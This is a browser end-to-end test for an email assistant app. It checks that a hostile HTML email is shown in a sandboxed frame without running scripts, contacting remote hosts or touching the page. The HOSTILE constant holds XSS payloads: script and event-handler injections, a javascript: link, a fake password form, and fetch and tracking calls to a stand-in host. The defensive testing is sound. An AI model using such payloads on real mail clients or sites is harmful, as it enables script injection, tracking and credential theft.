import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { ApiClient } from '../../infra/local/client.ts';
import type { MessageResource, ThreadResource } from '../../shared/contract/threads.ts';
import { describeInBrowser } from './support/in-browser.ts';
import { eventually, replyByHand } from './support/people.ts';
import { enterWorld } from './support/shared-world.ts';
import { newVisitor, signIn } from './support/visitor.ts';
import type { LocalWorld } from './support/world.ts';

const OWNER = 'careful@example.com';

/** Everything that a mail could try, so that it reports to its sender or touches the page. */
const HOSTILE = `<html><head>
<meta http-equiv="refresh" content="0; url=https://tracker.example/refresh">
<link rel="stylesheet" href="https://tracker.example/sheet.css">
<link rel="preload" as="image" href="https://tracker.example/preload.png">
<base href="https://tracker.example/">
<style>@import url("https://tracker.example/import.css"); .a { background: url(https://tracker.example/bg.png) }</style>
</head><body onload="parent.hacked = 'onload'">
<p class="a">A perfectly normal answer with <b>bold</b> words.</p>
<img src="https://tracker.example/pixel.gif" onerror="parent.hacked = 'onerror'" alt="">
<img srcset="https://tracker.example/set.png 1x" alt="">
<script>parent.hacked = 'script'; fetch('https://tracker.example/script');</script>
<script src="https://tracker.example/remote.js"></script>
<iframe src="https://tracker.example/frame"></iframe>
<object data="https://tracker.example/object"></object>
<video poster="https://tracker.example/poster.png" src="https://tracker.example/video.mp4" autoplay></video>
<form action="https://tracker.example/form"><input name="password"><button>Sign in</button></form>
<svg><use href="https://tracker.example/use.svg#a"></use><script>parent.hacked = 'svg'</script></svg>
<a href="javascript:parent.hacked='link'">press</a>
</body></html>`;

describeInBrowser('a hostile mail', () => {
  let browser: Browser;
  let world: LocalWorld;

  beforeAll(async () => {
    ({ browser, world } = await enterWorld());
  });
  afterAll(async () => {
    await browser?.close();
  });

  /** A conversation into which the hostile mail has come. */
  const withHostileMail = async (): Promise<ThreadResource> => {
    const api = new ApiClient(world.origin);
    await api.signIn(OWNER);
    const assistant = await api.json<{ id: string }>('POST', '/api/assistants', {
      name: 'Careful',
      instructions: 'Be kind.',
    });
    const thread = await api.json<ThreadResource>(
      'POST',
      '/api/threads',
      {
        assistantId: assistant.id,
        recipient: { email: 'eve@example.com', name: 'Eve' },
        instructions: 'Say hello.',
        subject: 'A question',
      },
      { 'Idempotency-Key': 'hostile' },
    );
    const inbound = async (count: number) => {
      const { items } = await api.json<{ items: MessageResource[] }>(
        'GET',
        `/api/threads/${thread.id}/messages`,
      );
      const received = items.filter(({ direction }) => direction === 'inbound');
      return received.length >= count ? (received.at(-1) ?? null) : null;
    };
    await replyByHand(world, 'eve@example.com', 'A question', 'Who is this?');
    const first = await eventually('an answer', () => inbound(1));
    const raw = [
      'From: Eve <eve@example.com>',
      `To: ${OWNER}`,
      'Subject: Re: A question',
      'Message-ID: <hostile@example.com>',
      `In-Reply-To: ${first.rfcMessageId}`,
      `References: ${first.rfcMessageId}`,
      'Date: Mon, 02 Mar 2026 10:00:00 +0000',
      'MIME-Version: 1.0',
      'Content-Type: text/html; charset=utf-8',
      '',
      HOSTILE,
    ].join('\r\n');
    const delivered = await fetch(`${world.googleOrigin}/control/deliver`, {
      method: 'POST',
      body: JSON.stringify({ to: OWNER, raw }),
    });
    expect(delivered.status).toBe(200);
    await eventually('the hostile mail', () => inbound(2));
    return thread;
  };

  it('is shown in its own formatting without running, reporting or reaching anything', async () => {
    const thread = await withHostileMail();
    const visitor = await newVisitor(browser);
    const { page } = visitor;
    const asked: string[] = [];
    await page.context().route('https://tracker.example/**', (route) => {
      asked.push(route.request().url());
      return route.fulfill({ status: 200, contentType: 'image/gif', body: '' });
    });
    await signIn(page, world.origin, OWNER);
    await page.goto(`${world.origin}/threads/${thread.id}`);
    const mail = page.getByRole('article', { name: 'Email from Eve' }).last();
    await mail.getByRole('button', { name: 'Show original formatting' }).click();
    const frame = mail.frameLocator('iframe');
    await frame.getByText('bold').waitFor();
    await frame.getByText('press').click();
    expect(await mail.locator('iframe').getAttribute('sandbox')).not.toMatch(
      /allow-(scripts|same-origin|forms)/,
    );
    expect(await frame.locator('script, form, iframe, object, link, base[href]').count()).toBe(0);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(asked).toEqual([]);

    await mail.getByRole('button', { name: 'Load images' }).click();
    await eventually('the picture is asked for', async () =>
      asked.includes('https://tracker.example/pixel.gif') ? true : null,
    );
    expect(asked.filter((url) => !/\.(gif|png)$/.test(url))).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    await visitor.leave();
  });
});
